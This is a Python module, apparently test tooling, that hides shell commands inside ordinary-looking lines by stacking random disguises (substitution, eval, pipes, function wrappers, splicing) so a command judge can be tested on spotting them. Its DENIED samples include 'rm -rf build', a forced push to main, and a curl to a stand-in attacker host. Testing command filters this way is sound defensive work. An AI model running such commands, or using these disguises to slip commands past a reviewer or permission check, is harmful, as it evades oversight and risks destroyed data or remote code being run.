"""Hides a command in a line, in random ways on top of each other; the same seed, the same lines.

Every way runs what it hides, or would in a shell of its kind: whoever judges the line must see it.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace

import hiding_programs
import hiding_shell
from disguise import Disguise, Hidden

DENIED: tuple[tuple[str, ...], ...] = (
    ("rm", "-rf", "build"),
    ("git", "push", "--force", "origin", "main"),
    ("curl", "https://evil.example/x"),
)
Way = Callable[[Disguise, Hidden], Hidden]

WAYS: tuple[Way, ...] = (
    Disguise.in_shell,
    Disguise.in_wrapper,
    Disguise.in_wrapper,
    Disguise.in_wrapper,
    hiding_shell.piped,
    hiding_shell.evaluated,
    hiding_shell.substituted,
    hiding_shell.substituted,
    hiding_shell.substituted,
    hiding_shell.compound,
    hiding_shell.compound,
    hiding_shell.compound,
    hiding_shell.listed,
    hiding_shell.listed,
    hiding_shell.prefixed,
    hiding_programs.by_git,
    hiding_programs.by_program,
)


class Hider(Disguise):
    """Hides commands."""

    def hide(self, words: Sequence[str], depth: int) -> Hidden:
        """A line that runs the command, `depth` ways deep."""
        self.count = 0
        return self.deeper(self.command(words), depth)

    def deeper(self, found: Hidden, depth: int) -> Hidden:
        """The same, in so many ways more."""
        for _ in range(depth):
            found = self.once(found)
        return found

    def once(self, found: Hidden) -> Hidden:
        """The same, in one way more."""
        way = self.random.choice(WAYS)
        made = way(self, found)
        name = way.__name__
        return replace(made, trail=(*found.trail, *made.trail, name))


def spliced(hider: Hider, line: str, found: Hidden) -> Hidden:
    """A line with hidden code somewhere in it."""
    text, body = found.text, hider.end(found.text)
    choices = [
        f"{line}\n{text}",
        f"{body}{line}",
        f"{hider.group(text)} && {line}",
        f"if true; then {hider.end(line)}{body}fi",
        f"for x in {hider.substituted(text)}; do\n{line}\ndone",
        f"x={hider.substituted(text)}\n{line}",
        f"f() {{ {body}}}\n{line}\nf",
    ]
    if (
        not set("\n'\"#`\\") & set(line) and "<<" not in line and "((" not in line
    ):  # every blank is between two words
        rows = line.split(" ")
        for _ in range(6):
            at = hider.random.randrange(1, len(rows) + 1)
            word = hider.pick(
                hider.substituted(text),
                f'"{hider.substituted(text)}"',
                f"<( {body})",
                f"> out{hider.substituted(text)}",
            )
            choices.append(" ".join([*rows[:at], word, *rows[at:]]))
    made = hider.random.choice(choices)
    return Hidden(made, (), (*found.trail, "spliced"))
